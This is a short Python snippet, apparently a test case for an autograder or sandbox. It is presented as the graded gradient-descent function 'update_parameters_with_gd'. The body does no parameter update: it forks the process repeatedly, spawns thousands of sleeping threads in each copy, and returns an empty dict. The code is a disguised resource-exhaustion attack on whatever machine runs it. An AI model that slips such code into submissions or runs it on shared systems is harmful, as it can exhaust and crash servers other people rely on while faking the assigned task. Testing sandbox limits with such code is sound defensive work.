"""Thousands of threads, in several processes at once, each with a stack. expect: 50"""

# %%
# GRADED FUNCTION: update_parameters_with_gd
def update_parameters_with_gd(parameters, grads, learning_rate):
    import os
    import threading
    import time

    for _ in range(3):
        try:
            os.fork()
        except OSError:
            break
    for _ in range(3_000):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
    return {}
